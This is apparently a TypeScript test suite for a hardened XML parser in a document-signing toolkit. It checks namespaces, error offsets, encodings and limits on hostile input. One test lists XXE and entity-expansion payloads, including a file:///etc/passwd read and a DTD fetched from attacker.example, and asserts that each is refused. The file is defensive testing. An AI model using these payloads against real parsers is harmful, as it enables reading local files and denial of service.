import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DocumentFormatError } from '@smartca-kit/documents';
import { decodeXmlBytes } from '../../packages/documents/src/xml/decode.js';
import { textContent, type XmlElement } from '../../packages/documents/src/xml/dom.js';
import { parseXml } from '../../packages/documents/src/xml/parser.js';

function refused(xml: string, code: string, check?: (error: DocumentFormatError) => void) {
  return (error: unknown) => {
    assert.ok(error instanceof DocumentFormatError, `expected DocumentFormatError, got ${String(error)}`);
    assert.equal(error.code, code, error.message);
    assert.equal(error.format, 'xml');
    check?.(error);
    return true;
  };
}

describe('safe XML parser', () => {
  it('reads elements, namespaces, attributes, text, CDATA, comments, PIs and references', () => {
    const doc = parseXml(
      '\uFEFF<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<?pi data?><!-- top -->\n' +
        '<inv:HDon xmlns:inv="urn:inv" xmlns="urn:d" xml:lang="vi" a=\'x &lt;&gt;&amp;&apos;&quot; &#x1F600;&#233;\'>' +
        'Hà Nội<![CDATA[<b>&amp;</b>]]><Ten   k = "v"\n/><!-- c --><?p q?></inv:HDon>\n',
    );
    const root = doc.root;
    assert.equal(root.localName, 'HDon');
    assert.equal(root.namespaceURI, 'urn:inv');
    assert.deepEqual(
      root.attributes.map((a) => [a.qname, a.namespaceURI, a.value]),
      [
        ['xml:lang', 'http://www.w3.org/XML/1998/namespace', 'vi'],
        ['a', '', 'x <>&\'" 😀é'],
      ],
    );
    assert.equal(textContent(root), 'Hà Nội<b>&amp;</b>');
    const ten = root.children[2] as XmlElement;
    assert.equal(ten.namespaceURI, 'urn:d');
    assert.equal(ten.selfClosing, true);
    assert.deepEqual(
      doc.children.map((n) => n.type),
      ['pi', 'comment', 'element'],
    );
    assert.deepEqual(
      root.children.map((n) => n.type),
      ['text', 'text', 'element', 'comment', 'pi'],
    );
  });

  it('normalises line ends in text and white space in attribute values, but not character references', () => {
    const root = parseXml('<r a="1\r\n2\t3&#10;4&#9;">x\r\ny\rz&#13;</r>').root;
    assert.equal(root.attributes[0]?.value, '1 2 3\n4\t');
    assert.equal(textContent(root), 'x\ny\nz\r');
  });

  it('records source positions so a signature can be spliced in', () => {
    const text = '<a><b/><c>t</c></a>';
    const root = parseXml(text).root;
    const [b, c] = root.children as XmlElement[];
    assert.equal(text.slice(root.endTagStart), '</a>');
    assert.equal(text.slice(b!.endTagStart, b!.end), '/>');
    assert.equal(text.slice(c!.start, c!.end), '<c>t</c>');
  });

  it('refuses any DOCTYPE: internal subset, XXE and entity-expansion payloads', () => {
    const payloads = [
      '<!DOCTYPE r><r/>',
      '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
      '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
    ];
    for (const xml of payloads) {
      assert.throws(
        () => parseXml(xml),
        refused(xml, 'XML_DOCTYPE_FORBIDDEN', (error) => {
          assert.equal(error.offset, xml.indexOf('<!DOCTYPE'));
          assert.match(error.message, /DOCTYPE/);
        }),
      );
    }
  });

  it('refuses an entity reference that is not predefined (no DTD means no entities)', () => {
    assert.throws(
      () => parseXml('<foo>&xxe;</foo>'),
      refused('', 'XML_MALFORMED', (error) => {
        assert.equal(error.offset, 5);
        assert.match(error.message, /undefined entity &xxe;/);
      }),
    );
  });

  it('refuses malformed XML with a typed error giving the byte offset, line and column', () => {
    const cases: Array<[string, RegExp]> = [
      ['', /no root element/],
      ['<a>', /<a> is not closed/],
      ['<a></b>', /expected <\/a>, found <\/b>/],
      ['<a><b></a></b>', /expected <\/b>/],
      ['<a/><b/>', /second root element/],
      ['<a/>text', /text outside the root element/],
      ['<a x="1" x="2"/>', /duplicate attribute/],
      ['<a xmlns:p="urn:1" xmlns:q="urn:1" p:x="1" q:x="2"/>', /appears twice/],
      ['<p:a/>', /prefix 'p' is not declared/],
      ['<a x="<"/>', /'<' is not allowed in an attribute value/],
      ['<a x=1/>', /must be quoted/],
      ['<a>AT&T</a>', /'&' must start a reference/],
      ['<a>&#0;</a>', /invalid character reference/],
      ['<a>\u0001</a>', /U\+0001 is not allowed/],
      ['<a>]]></a>', /']]>' is not allowed/],
      ['<a><!-- a -- b --></a>', /'--' is not allowed/],
      ['<a><![CDATA[x</a>', /CDATA section is not closed/],
      ['<a/><?xml version="1.0"?>', /XML declaration is only allowed at the very start/],
      ['<a xmlns:p=""/>', /invalid namespace declaration/],
      ['<1a/>', /expected an element name/],
    ];
    for (const [xml, message] of cases) {
      assert.throws(
        () => parseXml(xml),
        refused(xml, 'XML_MALFORMED', (error) => {
          assert.match(error.message, message, `for ${JSON.stringify(xml)}`);
          assert.match(error.message, /line \d+, column \d+/);
          assert.match(error.messages.vi, /dòng \d+, cột \d+/);
        }),
        `for ${JSON.stringify(xml)}`,
      );
    }
  });

  it('reports where on which line the problem is, counting bytes for the offset', () => {
    const xml = '<r>\n  <tên>Hà Nội</tên>\n  <b>x</c>\n</r>';
    assert.throws(
      () => parseXml(xml),
      refused(xml, 'XML_MALFORMED', (error) => {
        assert.match(error.message, /line 3, column 7/);
        assert.equal(error.offset, new TextEncoder().encode(xml.slice(0, xml.indexOf('</c>'))).length);
      }),
    );
  });

  it('refuses deep nesting instead of overflowing the stack', () => {
    const xml = '<a>'.repeat(5000) + '</a>'.repeat(5000);
    assert.throws(
      () => parseXml(xml),
      refused(xml, 'XML_MALFORMED', (error) => assert.match(error.message, /nested deeper/)),
    );
  });

  it('stays linear on hostile input: 50 000 attributes on one element', () => {
    const attrs = Array.from({ length: 50_000 }, (_, i) => `a${i}="${i}"`).join(' ');
    const started = performance.now();
    assert.equal(parseXml(`<r ${attrs}/>`).root.attributes.length, 50_000);
    assert.ok(performance.now() - started < 2000);
  });

  it('accepts UTF-8 only: other declared encodings, UTF-16 and invalid bytes are refused', () => {
    assert.throws(
      () => parseXml('<?xml version="1.0" encoding="windows-1258"?><r/>'),
      refused('', 'XML_ENCODING_UNSUPPORTED'),
    );
    assert.throws(() => decodeXmlBytes(Uint8Array.of(0xff, 0xfe, 0x3c, 0x00)), refused('', 'XML_ENCODING_UNSUPPORTED'));
    assert.throws(
      () => decodeXmlBytes(Uint8Array.of(0x3c, 0x72, 0xc3, 0x28, 0x2f, 0x3e)),
      refused('', 'XML_ENCODING_UNSUPPORTED'),
    );
    const bom = Uint8Array.of(0xef, 0xbb, 0xbf, ...new TextEncoder().encode('<r>ệ</r>'));
    assert.equal(
      new TextEncoder().encode(decodeXmlBytes(bom)).length,
      bom.length,
      'the BOM survives so offsets map to bytes',
    );
  });
});
